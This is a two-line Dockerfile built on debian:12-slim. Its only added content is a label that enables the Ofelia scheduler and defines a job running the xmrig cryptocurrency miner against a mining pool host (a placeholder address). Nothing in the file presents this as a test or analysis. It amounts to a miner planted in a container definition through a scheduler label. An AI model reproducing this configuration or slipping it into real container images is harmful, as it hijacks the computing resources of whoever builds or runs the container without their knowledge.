FROM debian:12-slim
LABEL ofelia.enabled=true ofelia.job-exec.x.command="xmrig -o pool.example.invalid:443"
